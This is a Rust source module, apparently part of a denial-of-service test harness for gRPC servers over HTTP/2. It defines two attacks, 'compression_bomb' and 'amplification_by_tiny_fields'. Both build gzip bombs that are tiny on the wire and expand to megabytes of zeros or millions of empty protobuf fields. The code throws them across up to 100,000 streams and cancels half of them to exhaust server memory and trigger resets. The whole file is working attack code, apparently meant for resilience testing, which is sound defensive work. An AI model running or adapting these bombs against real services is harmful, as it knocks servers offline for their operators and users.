//! Messages that are small on the wire and large in memory.

use std::io::Write;
use std::sync::LazyLock;

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::attacker::{Attacker, Over, request, streams};
use crate::frames::reset;
use crate::memory::MIB;
use crate::support::{DATA, END_STREAM, frame};
use crate::{Attack, Cost, Victim};

const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;
const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
/// Answers with a message for each element of a list in the request.
const STREAMING_OUTPUT: &str = "/grpc.testing.TestService/StreamingOutputCall";
/// So many bombs go off at once, on each connection.
const BOMBS: usize = 10;

/// Streams that are refused while their data is on the way are reset. After thousands of those a
/// connection is drained, and after thousands more it is closed; so it is for bombs that are given up
/// before they were answered. Who has thrown all leaves.
const ENDS: &[&str] = &[
    "open",
    "left",
    "GOAWAY 0",
    "GOAWAY 11 too_many_internal_resets",
    "GOAWAY 11 too_many_cancellations",
];

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            prepare: make_zeros,
            ..Attack::new("compression_bomb", Cost::Bomb, ENDS, |attacker| {
                Box::pin(compression_bomb(attacker))
            })
        },
        Attack {
            server: Victim::Interop,
            prepare: make_lists,
            ..Attack::new(
                "amplification_by_tiny_fields",
                Cost::Bomb,
                ENDS,
                |attacker| Box::pin(tiny_fields(attacker)),
            )
        },
    ]
}

/// A message of as many zeros as it may have, which the reply has then too.
static ZEROS: LazyLock<Vec<u8>> = LazyLock::new(|| {
    // Field 1, a text of 4,000,000 bytes.
    bomb(&[&[0x0a, 0x80, 0x92, 0xf4, 0x01][..], &vec![0; 4_000_000]].concat())
});
/// Many more of them.
static TOO_MANY_ZEROS: LazyLock<Vec<u8>> =
    LazyLock::new(|| bomb(&vec![0; usize::try_from(32 * MIB).unwrap()]));
/// Field 2 is a list of messages, of which each is empty here: two bytes that become a struct.
static EMPTY_MESSAGES: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x12, 0].repeat(TIMES)));
/// Field 1 is a number.
static NUMBERS: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x08, 0].repeat(TIMES)));
/// A server that was not optimised takes seconds for what an optimised one does at once.
const TIMES: usize = if cfg!(debug_assertions) {
    200_000
} else {
    2_000_000
};

fn make_zeros() {
    LazyLock::force(&ZEROS);
    LazyLock::force(&TOO_MANY_ZEROS);
}

fn make_lists() {
    LazyLock::force(&EMPTY_MESSAGES);
    LazyLock::force(&NUMBERS);
}

async fn compression_bomb(attacker: &mut Attacker) -> Result<(), Over> {
    let bomb = match attacker.number % 2 {
        0 => &*ZEROS,
        _ => &*TOO_MANY_ZEROS,
    };
    throw(attacker, SAY_HELLO, bomb).await
}

async fn tiny_fields(attacker: &mut Attacker) -> Result<(), Over> {
    let bomb = match attacker.number % 2 {
        0 => &*EMPTY_MESSAGES,
        _ => &*NUMBERS,
    };
    throw(attacker, STREAMING_OUTPUT, bomb).await
}

/// Throws one handful after another, and takes no reply.
async fn throw(attacker: &mut Attacker, path: &str, bomb: &[u8]) -> Result<(), Over> {
    attacker.begin(&[(INITIAL_WINDOW_SIZE, 0)]).await?;
    let streams: Vec<u32> = streams().take(100_000).collect();
    for handful in streams.chunks(BOMBS) {
        for &stream in handful {
            let gzip = [("grpc-encoding", "gzip")];
            attacker.send(&request(stream, path, &gzip)).await?;
            attacker.send_data(stream, bomb).await?;
            attacker.send(&frame(DATA, END_STREAM, stream, &[])).await?;
        }
        // Half of them are given up.
        for &stream in &handful[BOMBS / 2..] {
            attacker.send(&reset(stream, CANCEL)).await?;
        }
    }
    Ok(())
}

/// A message, compressed, prefix and all.
fn bomb(message: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(message).unwrap();
    let body = encoder.finish().unwrap();
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    [&[1][..], &length, &body].concat()
}
